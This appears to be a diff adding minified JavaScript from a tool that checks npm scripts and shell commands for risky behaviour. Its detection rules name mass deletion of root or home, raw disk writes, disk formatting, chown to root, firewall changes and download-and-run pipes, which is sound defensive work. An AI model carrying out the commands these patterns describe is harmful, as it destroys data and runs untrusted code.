+isPending?.(n))return ue("target-not-judged",s,{path:e});if(r===void 0||t.tree.stat("node_modules")!==void 0)return Ra(t.
+tree,n,e,s);const i=await Xs(t,{name:r,path:e},s);return i.some(Za)?{targets:[],problems:i}:Se([ue("not-installed",s,{name:r}),
+{targets:[],problems:i}])}async function Wh(t,e,n,s){const r=Ha(e,n,t.directory);if(r!==void 0)return{targets:[],problems:[
+r]};const o=(za(e)?(Vs(e)??[]).map(fT):[e]).map(u=>Ve(t.tree,ct(t,u)));if(o.some(({kind:u})=>u==="outside"))return ue("t\
+arget-outside",n,{path:e,reason:"symlink"});const[a]=o,c=a?.kind==="inside"&&a.entry.kind==="directory"&&a.entry.tracked;
+return za(e)||a===void 0||c?$e:s({path:e,wanted:xe(ct(t,e))??e,found:a})}const Vh=256*1024,TT=/\b(?:(?:appendFile|copyFile|rename|rm|rmdir|symlink|truncate|unlink|writeFile)Sync|appendFile|copyFile|createWriteStream|writeFile)\s*\(/;
+async function IT(t,e){if((e.size??0)>Vh)return!1;const n=(await t.read(e.path)).toString("latin1");return TT.test(n)}const $T=[
+"",".js",".json",".node"];function Va(t){return t===""?[""]:$T.map(e=>t+e)}function Yh(t,e){const n=e.map(s=>Ve(t,s)).filter(
+s=>s.kind!=="missing");return n.find(s=>s.kind!=="inside"||lt(s.entry.kind))??n[0]}async function Xh({tree:t,changed:e},{
+path:n,wanted:s},r,i){const o=ie.posix.join(s,"package.json"),a=await ps(t,o);if(a===Qt)return ue("package-json-invalid",
+r,{path:o});const c=Xt(gt(a),"main"),u=c.startsWith("/")?void 0:xe(ie.posix.join(s,c)),l=h=>Va(ie.posix.join(h,"index")).
+slice(1),d=c===""||!u?[]:[...Va(u),...l(u)],B=u===void 0?{kind:"outside",path:c}:RT(t,[...d,...l(s)]);if(B===void 0)return;
+const f=await i({path:n,wanted:s,found:B});return e.has(o)?Se([f,ue("target-changed",r,{path:o})]):f}function RT(t,e){return e.
+map(n=>Ve(t,n)).find(n=>n.kind==="inside"?lt(n.entry.kind):n.kind!=="missing")}async function NT(t,e){const{flags:n,operands:s}=t,
+r=ri(t);if(FT(t,r))return $e;const i=[];for(const c of n)i.push(await Qh(c,e));for(const{text:c,span:u}of s){if(c===""||
+c.startsWith("-"))continue;const l=()=>Kh(e,c,u);i.push(r?await Wh(e,c,u,l):await l())}const{targets:o,problems:a}=Se(i);
+return n.some(({name:c})=>c==="--check")?{targets:o.map(c=>({...c,parsed:!0})),problems:a}:{targets:o,problems:a}}function FT({
+operands:t},e){const n=t[0]?.text;return n==="inspect"||n==="debug"&&!e}const LT=new Set(["--import","--require","--expe\
+rimental-loader"]);async function Qh(t,e){const{name:n,value:s="",span:r}=t;return n==="--env-file"||n==="--env-file-if-\
+exists"?MT(e,s,r):n==="--test-reporter-destination"?PT(e,s,r):!LT.has(n)||!/^[@a-z]/i.test(s)?$e:ep(e,s,r)}function PT(t,e,n){
+if(/^std(?:out|err)$/.test(e))return $e;const s=ln(e,n,t.directory);if(s!==void 0)return{targets:[],problems:[s]};const r=Ve(
+t.tree,xe(ct(t,e))??"");return r.kind==="outside"?ue("target-outside",n,{path:e,reason:"symlink"}):r.kind==="inside"&&r.
+entry.tracked?ue("writes-files",n,{program:"node",flag:e}):$e}async function ep(t,e,n){const s=/^(?:@[^/]+\/)?[^/]+/.exec(
+e)?.[0]??e;return{targets:[],problems:await Xs(t,{name:s,path:e},n)}}const jT=/(?<!\w)([A-Za-z_]\w*)\s*=/g;async function MT(t,e,n){
+if(ln(e,n,t.directory)!==void 0)return $e;const s=Ve(t.tree,ct(t,e));if(s.kind==="missing"&&t.tree.isPending?.(s.path))return ue(
+"target-not-judged",n,{path:e});const r=Na(s,e,n);if("problems"in r)return r;if(!r.tracked&&!r.built)return ue("target-m\
+issing",n,{path:e,untracked:!0});if((r.size??0)>Vh)return ue("environment-file-unsafe",n,{path:e,names:[]});const o=[...(await t.
+tree.read(r.path)).toString("utf8").matchAll(jT)].map(([,c=""])=>c).filter(c=>If(c.toUpperCase())&&c.toUpperCase()!=="NO\
+DE_ENV"),a=[...new Set(o)].slice(0,10);return a.length===0?$e:ue("environment-file-unsafe",n,{path:e,names:a})}const GT=128*
+1024,HT=16;function Zt(t,e){return t.length>GT?[]:new KT(t,e).list("",0)}function en(t){return t.flatMap(e=>[e,...en(e.inside)])}
+const tp=/^([A-Za-z_]\w*)=(.*)$/s;function Ya(t){const{words:e,assignments:n}=t,s=e.findIndex(({text:a,quoted:c})=>c||!Ux(
+a));if(s<1)return t;const r=e.slice(s),i=r.findIndex(({text:a})=>!tp.test(a)),o=i<0?r:r.slice(0,i);return{...t,words:r.slice(
+o.length),assignments:[...n,...o.map(zT)]}}function zT({text:t,span:e}){const[,n="",s=""]=tp.exec(t)??[];return{name:n,value:s,
+span:e}}function yi({problems:t,substituted:e},{span:n}){const s=r=>r.start<n.end&&r.end>n.start;return e.some(s)||t.some(
+r=>UT.has(r.rule)&&s(r.span))}const UT=new Set(["arithmetic-expansion","command-substitution","dollar-quote","variable-e\
+xpansion"]),JT=/\\.?|'[^']*'?|[$<>]\(|[<>][<>&|-]{0,2}|&>[<>&|-]?|[;&|\r\n]+|(?<!\S)#[^\n]*|[^\\'"`$()<>&;|\r\n#]+|./sy,
+ZT=/\\.?|\$\(|[^\\`$"]+|./sy;class KT{#e;#t;#s=0;constructor(e,n){this.#e=e,this.#t=n}list(e,n){const s=[];let r=this.#i(),
+i=!1;const o=(a,c="")=>{const u=this.#n(r,a,c),{words:l,assignments:d,redirections:B,inside:f}=u,h=l.length+d.length+B.length+
+f.length===0,m=s.at(-1);h?m&&(s[s.length-1]={...m,separator:m.separator+c}):s.push(u);const g=/^\|&?$/.test(c)?u:void 0;
+r=this.#i(h?r.pipedFrom:g)};for(;this.#s<this.#e.length;){const a=this.#s,c=this.#r(i?ZT:JT),u=this.#s;if(c==='"')i=!i;else{
+if(c===e&&(!i||e==="`"))return o(a),s;if(c==="$("||c==="`"||!i&&/^[<>]?\($/.test(c)){if(n===HT){o(a);continue}const l=this.#e.
+slice(r.start,a),d=c==="("?Jx(l)?"subshell":"definition":"substitution",B=this.list(c==="`"?"`":")",n+1);r.inside.push(...B),
+r.gaps.push({kind:d,start:a,end:this.#s}),d==="subshell"&&(r.subshell=B)}else!i&&/^(?:[;&|\r\n]+|\))$/.test(c)?o(a,c):!i&&
+c.startsWith("#")&&/^\s?$/.test(this.#e.charAt(a-1))?r.gaps.push({kind:"comment",start:a,end:u}):!i&&/^(?:[<>]|&>)/.test(
+c)&&r.gaps.push({kind:"operator",start:a,end:u})}}return o(this.#e.length),s}#i(e){return{start:this.#s,gaps:[],inside:[],
+pipedFrom:e}}#r(e){e.lastIndex=this.#s;const[n=""]=e.exec(this.#e)??[];return this.#s+=n.length,n}#n(e,n,s){const{start:r,
+gaps:i,inside:o,pipedFrom:a,subshell:c}=e;let u="",l=r;for(const y of i){const D=y.kind==="comment"||y.kind==="operator"?
+" ":"_";u+=this.#e.slice(l,y.start)+D.repeat(y.end-y.start),l=y.end}u+=this.#e.slice(l,n);const d=un(u,this.#t),B=y=>({...y,
+span:{start:y.span.start+r,end:y.span.end+r}}),f=d.words.map(B),h=new Set;let m=0;const C=i.filter(({kind:y})=>y==="oper\
+ator").map(({start:y,end:D})=>{for(;m<f.length&&(f[m]?.span.start??D)<D;)m+=1;const O=f[m],v=f[m-1];return v?.span.end===
+y&&/^\d+$/.test(v.text)&&h.add(v),O&&h.add(O),{operator:this.#e.slice(y,D),...O&&{target:O}}}),b=[...d.assignments,...d.
+refused].map(B);return{words:f.filter(y=>!h.has(y)),assignments:b.sort((y,D)=>y.span.start-D.span.start),redirections:C,
+problems:d.problems.map(B),span:{start:r,end:n},separator:s,inside:o,substituted:i.filter(({kind:y})=>y==="substitution"),
+...a&&{pipedFrom:a},...c&&{subshell:c},...i.some(({kind:y})=>y==="definition")&&{defines:!0}}}}const qT=/^-(?:exec|ok)(?:dir)?$/;
+function Qs(t){let e=t;for(;;){const[n,s]=e,r=Zs(n?.text??"");if(r==="find"){const o=e.findIndex(({text:a})=>qT.test(a));
+return o<0?e:Qs(e.slice(o+1))}if(at(r)?.kind!=="wrapper"||r==="command"&&/^-[vV]/.test(s?.text??""))return e;const i=e.findIndex(
+(o,a)=>a>0&&WT(o,e));if(i<0)return e;e=e.slice(i)}}function WT({text:t},e){return e.slice(1).some(n=>at(n.text))?at(t)!==
+void 0:!/^-|^\w+=|^\d+[smhd]?$/.test(t)}function wi(t){const[e,...n]=t,s=e&&at(e.text);if(s?.text===void 0)return;if(s.text===
+"words")return bi(n);const r=s.text,i=n.findIndex(({text:a})=>r.test(a)),o=n[i];if(o!==void 0){if(s.name==="cmd"){const a=o.
+text.slice(2);return bi(a===""?n.slice(i+1):[{...o,text:a},...n.slice(i+1)])}return/^[-/]e/i.test(o.text)&&np(s)?VT(n[i+
+1]):np(s)?bi(n.slice(i+1)):bi(n.slice(i+1,i+2))}}function np({name:t}){return t==="pwsh"||t==="powershell"}function bi(t){
+return t.length===0?void 0:{text:t.map(({text:e})=>e).join(" "),words:t}}function VT(t){return t&&{text:Buffer.from(t.text,
+"base64").toString("utf16le"),words:[t]}}const sp=/^\/dev\/(?:sd|hd|vd|xvd|nvme|disk|mmcblk|mapper\/|loop)/,YT=(t,e,n)=>t.
+some(s=>/^-[A-Za-z]+$/.test(s)&&[...s.slice(1)].some(r=>e.includes(r))||s.length>3&&n.startsWith(s.toLowerCase())),XT=/^(?:\/+(?:[\w.-]*\/?)?\*?|\*|\.{1,2}\/?\*?|~[^/]*(?:\/\*?)?|\$\{?HOME\}?(?:\/\*?)?)$/,
+QT=t=>t.some((e,n)=>{const s=/^(?:-s|--signal)$/.test(e)?t[n+1]:/^(?:-s|--signal=|-)(.+)$/.exec(e)?.[1];return s!==void 0&&
+/^(?:9|(?:sig)?kill)$/i.test(s)}),rp=(t,e,n)=>(t==="systemctl"||t==="loginctl")&&e.some(s=>n.test(s)),e1=[{name:"mass_de\
+letion",matches:({program:t,args:e})=>t==="rm"&&YT(e,"rR","--recursive")&&e.some(n=>!n.startsWith("-")&&XT.test(n))},{name:"\
+raw_disk_write",matches:({program:t,args:e})=>t==="dd"&&e.some(n=>n.startsWith("if=")||/^of=\/dev\//.test(n))},{name:"fi\
+lesystem_format",matches:({program:t})=>/^(?:mkfs(?:\..+)?|mke2fs)$/.test(t)},{name:"direct_disk_write",matches:({program:t,
+args:e})=>t==="tee"&&e.some(n=>sp.test(n))},{name:"world_writable",matches:({program:t,args:e})=>t==="chmod"&&e.some(n=>/^[0-7]{2,4}[2367]$/.
+test(n)||/^[ug]*[ao][uoga]*[+=][rxst]*w/.test(n))},{name:"privilege_escalation",matches:({program:t,args:e})=>t==="chown"&&
+e.some(n=>/^\+?(?:root|0+)(?::.*)?$|^:\+?(?:root|0+)$/s.test(n))},{name:"firewall_manipulation",matches:({program:t})=>/^(?:ip6?tables(?:-.+)?|nft|ufw|firewall-cmd)$/.
+test(t)},{name:"system_shutdown",matches:({program:t,args:e})=>/^(?:shutdown|poweroff|halt)$/.test(t)||/^(?:init|telinit)$/.
+test(t)&&e[0]==="0"||rp(t,e,/^(?:poweroff|halt)$/)},{name:"system_reboot",matches:({program:t,args:e})=>t==="reboot"||/^(?:init|telinit)$/.
+test(t)&&e[0]==="6"||rp(t,e,/^(?:reboot|kexec)$/)},{name:"force_kill",matches:({program:t,args:e})=>/^(?:kill|pkill|killall)$/.
+test(t)&&QT(e)}],ip=8,t1=4;function gs(t,e=0){const n=new r1;return en(t).flatMap(s=>n1(s,n,e))}function n1(t,e,n){const s=[],
+{words:r}=Ya(t);for(const{operator:c,target:u}of t.redirections)if(c.includes(">")&&u&&sp.test(u.text)){const l=`> ${u.text}`;
+s.push({name:"direct_disk_write",pattern:l,words:[u]})}const i=op(r),o=e.runBy(t,i);if(o!==void 0){const c=`${o} | ${r[0]?.
+text??""}`;s.push({name:"remote_code_execution",pattern:c,words:r})}const a=new Set;for(const c of i){const u=e1.find(({
+matches:f})=>f(c))?.name;if(u!==void 0){const f=c.words.map(({text:h})=>h).join(" ");s.push({name:u,pattern:f,words:c.words})}
+const d=at(c.program)?.kind==="shell"?wi(c.words)?.text:void 0;if(d===void 0||a.has(d)||n===t1)continue;a.add(d);const B=gs(
+Zt(d),n+1);s.push(...B.map(f=>({...f,words:c.words}))),s1.test(d)&&s.push({name:"remote_code_execution",pattern:d,words:c.
+words})}return s}function op(t){const e=Xa(t,0);if(e===void 0)return[];const n=[e];if(at(e.program)?.kind==="wrapper")for(let s=1;s<=
+Math.min(t.length-1,ip);s+=1){const r=Xa(t,s);r!==void 0&&!/^-|=/.test(r.program)&&n.push(r)}if(e.program==="find")for(const[
+s,{text:r}]of t.entries()){const i=/^-(?:exec|ok)(?:dir)?$/.test(r)?Xa(t,s+1):void 0;if(i!==void 0&&n.push(i),n.length>ip)
+break}return n}function Xa(t,e){const n=t[e];if(n===void 0)return;const s=t.slice(e);return{program:Zs(n.text),args:s.slice(
+1).map(({text:r})=>r),words:s}}const s1=/\bdownload(?:string|data)\b/i;class r1{#e=new Map;#t=new Map;runBy(e,n){const s=(e.
+pipedFrom&&this.#e.get(e.pipedFrom))??i1(e.inside),r=n.find(({program:o})=>ap(o));this.#e.set(e,s??r?.program);const i=n.
+flatMap(({program:o,args:a,words:c})=>(ei(o)?a:c.slice(0,1).map(({text:u})=>u)).flatMap(u=>this.#t.get(Qa(u))??[]))[0];return r&&
+this.#s(r,e),n.some(({program:o})=>ei(o))?s??i:i}#s({program:e,args:n},{redirections:s}){const r=s.flatMap(({target:i})=>i?.
+text??[]);for(const i of[...n,...r])!i.startsWith("-")&&Qa(i)!==""&&this.#t.set(Qa(i),e)}}function Qa(t){return t.replace(
+/[?#].*$/s,"").replace(/^.*[\\/]/s,"")}function i1(t){return en(t).flatMap(({words:e})=>op(e)).find(({program:e})=>ap(e))?.
+program}function ap(t){return at(t)?.kind==="downloader"}const ec={mass_deletion:"deletes whole directories",raw_disk_write:"\
+overwrites files or disks",filesystem_format:"formats a disk",direct_disk_write:"overwrites a disk",world_writable:"lets\
+ every user change files",privilege_escalation:"gives files to the superuser",firewall_manipulation:"changes the firewal\
+l",system_shutdown:"shuts the machine down",system_reboot:"restarts the machine",remote_code_execution:"downloads a scri\
+pt and runs it",force_kill:"kills processes"},o1=/\brm\s+((?:-\S+\s+)+)["']*([^\s-]\S*)/g,a1=16*1024;function c1(t){if(t.
+length>a1)return"is too long to check";for(const[,s="",r=""]of t.matchAll(o1))if(/(?:^|\s)-(?:[a-zA-Z]*[rR]|-recursive)/.
+test(s)&&/^(?:[/*~]|\.\.|\$\{?HOME\b)/.test(r))return ec.mass_deletion;const e=Zt(t),n=gs(e).find(({name:s})=>s!=="mass_\
+deletion");return n?ec[n.name]:u1(e)?"pipes text into a shell":void 0}function u1(t){return en(t).some(({pipedFrom:e,words:n})=>{
+const[s]=Qs(n);return e!==void 0&&s!==void 0&&Qr(s.text)})}const cp=Yt(async t=>{const e=await Gh(t,""),n=Array.isArray(
+e)?e.map(({directory:a})=>a):[],{npm:s,unread:r}=await Jt(t),i=(s?.all??[]).flatMap(({source:a})=>a.kind==="file"?xe(a.at)??
+[]:[]),o=r.length>0?await l1(t):[];return[...new Set([...n,...i,...o])].filter(a=>a!=="")});async function l1(t){const e=await Ut(
+t,""),n=Ur(t,"package.json").map(({path:r})=>ie.posix.dirname(r)),s=[];for(const r of n){const i=r==="."?void 0:await Ut(
+t,r);i!==void 0&&e?.dependencies.has(i.name)&&s.push(r)}return s}const tc=Yt(async t=>{const e=new Map;for(const n of await cp(
+t)){const s=await Ut(t,n);for(const[r,i]of s?.binaries??[]){const o=ie.posix.join(n,i);e.set(ie.posix.basename(r),{file:o,
+manifest:ie.posix.join(n,"package.json")})}}return e}),up=new Set([...lO,...`[ alias awk basename cargo chgrp chown cksu\
+m clear cmp comm cut date dd df dirname du expr fg
+  file find fmt fold gawk getopts git gzip hash hostname id install join jobs kill killall ln local
+  logname make md5sum mkdir mkfifo mktemp node nl npm npx od open paste patch pkill printf ps pwd
+  read readlink realpath rmdir rsync seq set sha256sum shift sleep sort split ssh stat stty su sum
+  sync tar tee tr trap tty type umask uname uniq unlink unzip uptime users wait watch which who
+  whoami xargs yes zip`.split(/\s+/)]),d1=new Set(["node","npm","npx","sh"]);async function B1(t,e){const{tree:n,base:s}=t,
+r=await tc(n),i=s&&await tc(s),o=[...r].flatMap(([c,{manifest:u}])=>up.has(c)?[lp(c,u,i?.has(c)===!0,e)]:[]),a=[];for(const c of Ys(
+t.directory)){const u=await f1(n,ie.posix.join(c,"node_modules/.bin"));for(const{name:l,path:d,isLocked:B}of u)a.push(lp(
+l,d,B,e))}return Se([...o,...a])}function lp(t,e,n,s){return n?d1.has(t)?ue("program-replaced",s,{name:t,path:e},"warnin\
+g"):$e:ue("program-replaced",s,{name:t,path:e})}const f1=zs(async(t,e)=>{const n=[];for(const{path:s}of t.list(e)){const r=ie.
+posix.basename(s).replace(/\.(?:cmd|exe|ps1)$/,"");if(!up.has(r))continue;const i=Ve(t,s);if(i.kind!=="inside")continue;
+const o=i.path===s?await h1(t,i.entry):i.path,a=o!==void 0&&/node_modules\/(?!\.bin\/)/.test(o);n.push({name:r,path:s,isLocked:a&&
+!i.entry.tracked})}return n});async function h1(t,{path:e,size:n=0}){if(n>p1)return;const s=(await t.read(e)).toString("\
+utf8"),[,r]=/"\$basedir\/([^"\n]+)"\s+"\$@"/.exec(s)??[];return r&&ie.posix.join(ie.posix.dirname(e),r)}const p1=16*1024,
+dp=/^(?:[/~\\]|[A-Za-z]:)/;class Kc{#e;#t;constructor(e,n){this.#e=e,this.#t=n}into(e){const s=e===void 0||dp.test(e)||/[$`]/.
+test(e)?[]:this.#t.map(r=>ie.posix.join(r,e));return new Kc(this.#e,s)}find(e,n=[""]){if(!(/^[/~]/.test(e)||e===""||!this.#e))
+for(const s of this.#t)for(const r of n){const i=xe(ie.posix.join(s,e.replaceAll("\\","/"))+r),o=i===void 0?void 0:Ve(this.#e,
+i);if(o?.kind==="inside"&&lt(o.entry.kind)&&o.entry.tracked)return o.path}}script(e,n){const s=this.find(e,n);if(s!==void 0)
+return{kind:"file",name:s};if(dp.test(e))return{kind:"outside",name:e};const[r]=this.#t;if(r===void 0)return{kind:"unrea\
+d",name:`it runs ${e} in another directory`};const i=xe(ie.posix.join(r,e));return i===void 0?{kind:"outside",name:e}:{kind:this.#e===
+void 0?"file":"missing",name:i||"."}}named(e,n){const s=this.find(e.replace(/^-{1,2}[\w-]+=/,""),n);return s===void 0?[]:
+[{kind:"file",name:s}]}async manifest(){const e=this.find("package.json");return this.#e&&e?gt(await ps(this.#e,e)):{}}}
+var m1=Te(298);const Bp={selected:!1,runs:[],packages:[],problems:[]};function nc({body:t,words:e}){return[t,...e.map(({
+text:n})=>Cp(n))].join(" ")}async function fp(t,e,n){const s=Ua(t),r=mp(t);if(s.informs||r===void 0)return Bp;const i=h=>yT(
+s,h,n),o=await i(e);if("problems"in o)return{...Bp,problems:o.problems};const{project:a,selected:c,directories:u}=o,l=s.
+ignoreScripts??await C1({...e,directory:a}),d=[],B=[...o.missing,...await g1(o,e,n,i)];let f=!1;for(const h of u){const m=await Ws(
+e.tree,h);if(m===Qt){const g=ie.posix.join(h,"package.json");B.push(...ue("package-json-invalid",n,{path:g}).problems)}else if(m===
+void 0)B.push(...ue("package-json-missing",n,{directory:h}).problems);else if(m.scripts.has(r)){const g={event:r,words:t.
+passthrough},C=gp(m,h,g,{ignoreScripts:l});d.push(...C),B.push(...hp(C,r,{...e,directory:h},n))}else f=!0}if(f){const h={
+script:r,passes:s.ifPresent},m=s.ifPresent&&d.length===0&&e.via===void 0,g=r==="start"||m;B.push(be("npm-script-missing",
+n,h,g?"error":void 0))}return{project:a,selected:c,runs:d,packages:u,problems:B}}async function g1({project:t,directories:e},{
+base:n,...s},r,i){const o=ie.posix.join(t,"package.json");if(n===void 0||!s.changed.has(o))return[];const a=await i({...s,
+tree:n});if("problems"in a)return[];const c=a.directories.filter(u=>!e.includes(u));return c.length===0?[]:[be("workspac\
+es-changed",r,{path:o,lost:c})]}function hp(t,e,{via:n,directory:s},r){if(t.some(({event:o,body:a})=>o===e&&!pp(a)))return[];
+const i={script:e,path:ie.posix.join(s,"package.json")};return[be("npm-script-empty",r,i,n===void 0?"error":"warning")]}
+function pp(t){return t.split(`
+`).every(e=>/^\s*(?:#|$)/.test(e))}async function C1(t){const e=await hs(t);return"settings"in e&&e.settings["ignore-scr\
+ipts"]===!0}function mp({subcommand:t,operands:e}){switch(t){case"run":return e[0]?.text;case"test":case"start":case"sto\
+p":return t;default:return}}function gp({scripts:t},e,{event:n,words:s},{ignoreScripts:r}={}){return(r?[n]:[`pre${n}`,n,
+`post${n}`]).flatMap(o=>{const a=t.get(o);return a?[{directory:e,event:o,body:a,words:o===n?s:[]}]:[]})}const y1=/[\t\n\r "#$&'()*;<>?\\`|~]/;
+function Cp(t){return t===""?"''":y1.test(t)?`'${t.replaceAll("'","'\\''")}'`.replace(/^(?:'')+(?!$)/,"").replaceAll("\\'\
+''","\\'"):t}function w1(t,e){const n=Zt(t,e);if(n.length===0&&!pp(t))return{commands:n,fault:{part:"the script",why:"ca\
+nnot be read"}};const s=un(t).problems.find(({rule:r})=>r==="shell-comment");if(s&&n.length>0){const r=t.slice(s.span.start,
+s.span.end);return{commands:n,fault:{part:r,why:"hides the words behind it"}}}for(const[r,i]of n.entries()){const o=r===
+n.length-1,a=E1(i,t)??b1(i,o);if(a!==void 0)return{commands:n,fault:a}}return{commands:n}}function b1({separator:t},e){const n=t.
+trim();if(!(e?n==="":n==="&&"))return{part:n===""?"a line break":n,why:_1}}const _1="joins commands in another way than \
+`&&`";function E1(t,e){const{words:n,redirections:s,inside:r,subshell:i,defines:o,problems:a,assignments:c}=t,u=e.slice(
+t.span.start,t.span.end).trim(),l=(m,g)=>({part:m,why:g});if(i)return l(u,"runs in a subshell");if(o)return l(u,"defines\
+ a function");if(r.length>0)return l(u,"runs a command to make a word");const[d]=s;if(d)return l(`${d.operator} ${d.target?.
+text??""}`,"redirects input or output");const B=c.find(({name:m,value:g})=>!aa(m,g));if(B)return l(`${B.name}=`,"sets a \
+variable that can choose the code that runs");const f=n.find(m=>yi(t,m)&&!k1(t,m,e));if(f){const{start:m,end:g}=f.span;return l(
+e.slice(m,g),"is only known when the script runs")}const h=a.find(m=>!v1(m,n));if(h){const{start:m,end:g}=h.span;return l(
+e.slice(m,g).trim()||u,"is syntax of a shell")}return n.length===0?l(u,"starts no program"):D1(n)}function k1({problems:t},{
+span:e},n){return t.every(s=>s.rule!=="variable-expansion"||s.span.end<=e.start||s.span.start>=e.end||/^\$\{?npm_package_version\}?$/.
+test(n.slice(s.span.start,s.span.end)))}function v1({rule:t,span:e,severity:n},s){if(t==="variable-expansion"||n==="warn\
+ing")return!0;if(t!=="brace-expansion")return!1;const r=s.find(i=>i.span.start<=e.start&&i.span.end>=e.end);return r!==void 0&&
+Vs(r.text)?.every(i=>!i.startsWith("-"))===!0}function D1(t){const[e]=t,n=e?.text??"";if(Ba(n)&&!e?.quoted)return{part:n,
+why:"is a word of the shell"};const s=Qs(t);if(!yp(n))return s.length<t.length||at(n)?.kind==="wrapper"?{part:n,why:"dec\
+ides how another program runs"}:wi(s)&&n!=="node"?{part:n,why:"runs text as code"}:void 0}function yp(t){const e=at(t);return e?.
+name===t&&e.wraps==="as-tool"}const sc={cp:{flags:/^-[afprRvu]+$|^--(?:recursive|force|verbose)$/,from:-1},mkdir:{flags:/^-[pv]+$|^--parents$/,
+from:0},rimraf:{flags:/^--(?:no-glob|verbose)$/,from:0},rm:{flags:/^-[rRfv]+$|^--(?:recursive|force)$/,from:0}},x1=/(?:^|\/)(?:node_modules|\.git|\.venv|venv|vendor|\.yarn)(?:\/|$)/i;
+function O1([t,...e]){if(t?.text==="shx"){const[n]=e;return n&&(n.text==="echo"||Object.hasOwn(sc,n.text))?e:void 0}return t&&
+Object.hasOwn(sc,t.text)?[t,...e]:void 0}async function A1([t,...e],n){const s=t?.text??"",r=sc[s];if(r===void 0)return;
+const i=e.find(({text:a})=>a.startsWith("-")&&!r.flags.test(a));if(i)return{part:`${s} ${i.text}`,why:"has a flag that i\
+s not known"};const o=e.flatMap(({text:a})=>a.startsWith("-")?[]:[a]);if(o.length<(r.from<0?2:1))return{part:s,why:"name\
+s no path"};for(const a of o.slice(r.from)){const c=await S1(a,n);if(c!==void 0)return{part:`${s} \u2026 ${a}`,why:c}}}async function S1(t,e){
+const{tree:n,isOutput:s}=e,r=t.startsWith("/")?void 0:xe(ct(e,t));if(r===void 0||r==="")return"writes outside of the bui\
+ld outputs";if(/[*?[\]{}!$~\\]/.test(t))return"writes to a path that the text does not show";if(x1.test(r))return"writes\
+ to a directory of dependencies";if(bS(r)!==void 0)return"writes a configuration file";const i=n.stat(r);if(i?.tracked&&
+i.kind!=="directory")return"writes a file of the commit";const o=`${r}/`;if(i?.tracked&&[...n.files()].some(c=>c.path.startsWith(
+o)))return"writes to a directory of the commit";if(!(s?.(r)||(await T1(n))(r)))return"writes to a path that git does not\
+ ignore and `build_outputs` does not name"}const T1=Yt(async t=>{const e=new Map;for(const{path:n}of t.files()){if(ie.posix.
+basename(n)!==".gitignore")continue;const s=await fi(t,n,I1),r=ie.posix.dirname(n).replace(/^\.$/,"");s&&"text"in s&&e.set(
+r,m1().add(s.text))}return n=>{const s=n.split("/");let r=!1;for(let i=0;i<s.length;i+=1){const o=e.get(s.slice(0,i).join(
+"/")),a=s.slice(i).join("/"),c=o?.test(a),u=o?.test(`${a}/`);c?.ignored||u?.ignored?r=!0:(c?.unignored||u?.unignored)&&(r=
+!1)}return r}}),I1=256*1024,$1=4,R1={kind:"download",name:"it runs what it downloads"};async function N1(t,e,n=0){if(n>$1)
+return[{kind:"unread",name:"it is nested too deeply"}];const s=Zt(t);return s.length===0&&t.trim()!==""?[{kind:"unread",
+name:"it is too long"}]:[...gs(s).some(({name:i})=>i==="remote_code_execution")?[R1]:[],...await wp(s,t,e,n)]}async function wp(t,e,n,s){
+const r=[];let i=n;for(const o of t){if(r.push(...await wp(o.inside,e,i,s)),o.subshell!==void 0)continue;if(o.defines){r.
+push({kind:"unread",name:"it defines a function"});continue}const{words:a,assignments:c}=Ya(o),u=a.map(B=>({...B,shown:e.
+slice(B.span.start,B.span.end),isKnown:!yi(o,B)}));r.push(...F1(c.map(({value:B})=>B),i));const[l,d]=u;l?.text==="cd"||l?.
+text==="pushd"?i=i.into(d?.isKnown?d.text:void 0):r.push(...await bp(u,i,s))}return r}function bp(t,e,n=0){return _p(t,{
+files:e,shell:(r,i=e)=>N1(r,i,n+1)})}function F1(t,e){return t.flatMap(n=>n.split(/[\s=:,]+/)).flatMap(n=>e.named(n))}async function _p(t,e){
+const n=Qs(t),[s,...r]=n;if(s===void 0||L1(s.text))return[];if(!s.isKnown)return[rc(`it starts ${s.shown}`)];const i=at(
+s.text)??{name:Zs(s.text),kind:"system"},o=wi(n);if(i.kind==="shell"&&o)return o.words.every(({isKnown:C})=>C)||/\s/.test(
+o.text)?e.shell(o.text):[rc("a shell runs what it is handed")];const a=r.some(({text:g})=>oc(g)||ic(g));if(ei(s.text)&&(a||
+!i.runsScripts))return j1(Zs(s.text),r,o!==void 0,e.files);const{files:c,left:u}=P1(r,e.files),l=u.map(({text:g})=>g),B=oc(
+s.text)&&!H1.test(s.text)?[e.files.script(s.text)]:await M1(i,l,{...e,files:c}),f=l.filter(ic).flatMap(g=>{const C=c.named(
+g);return C.length>0?C:e.files.named(g)}),h=i.runsInside?u.findIndex(({text:g})=>ei(g)):-1,m=h<0?[]:await _p(u.slice(h),
+{...e,files:c});return[...B,...m,...f]}function L1(t){return da(t)||Ba(t)&&at(t)===void 0}function rc(t){return{kind:"un\
+read",name:t}}const Ep=/^(?:-C|--(?:cwd|dir|directory|prefix|workspace))(?:=(.*))?$/s;function P1(t,e){const n=t.findIndex(
+({text:i})=>Ep.test(i));if(n<0)return{files:e,left:t};const s=Ep.exec(t[n]?.text??"")?.[1],r=t.toSpliced(n,s===void 0?2:
+1);return{files:e.into(s??t[n+1]?.text),left:r}}function j1(t,e,n,s){const r=e.flatMap(({text:l})=>s.named(l));if(n)return[
+{kind:"inline",name:t},...r];const i=e.filter(({text:l})=>!l.startsWith("-")),o=i.find(({text:l})=>oc(l)||ic(l))??i[0],a={
+kind:"program",name:t};if(r.length>0||o===void 0)return r.length>0?r:[a];const{text:c}=o;if(!o.isKnown)return[rc(`it run\
+s ${o.shown}`)];if(/^\w{2,}:/.test(c))return[{kind:"package",name:c,isExact:/@v?\d+\.\d+/.test(c)}];if(e[e.indexOf(o)-1]?.
+text!=="-m")return[s.script(c,vp)];const u=s.named(c.replaceAll(".","/"),vp);return u.length>0?u:[a]}async function M1(t,e,{
+files:n,shell:s}){const r=await n.manifest(),i=t.runsScripts&&z1(e),o=U1(i).flatMap(l=>{const d=Xt(gt(r.scripts),l);return d===
+""?[]:[{kind:"npm_script",name:l,text:d}]}),a=await Promise.all(o.map(({text:l=""})=>s(l,n))),u=o.length>0&&!kp.test(i??
+"")?[]:G1(t,e,r,n);return[...o,...a.flat(),...u]}function G1(t,e,n,s){const{name:r,finds:i=""}=t,o=i.split(" ").flatMap(
+B=>s.named(B));if(o.length>0)return o;const a=K1(t,e);if(a===void 0)return[{kind:"program",name:r}];const c=s.named(a.name);
+if(c.length>0||/^[./]/.test(a.name))return c.length>0?c:[{kind:"program",name:r}];const{dependencies:u,devDependencies:l}=n;
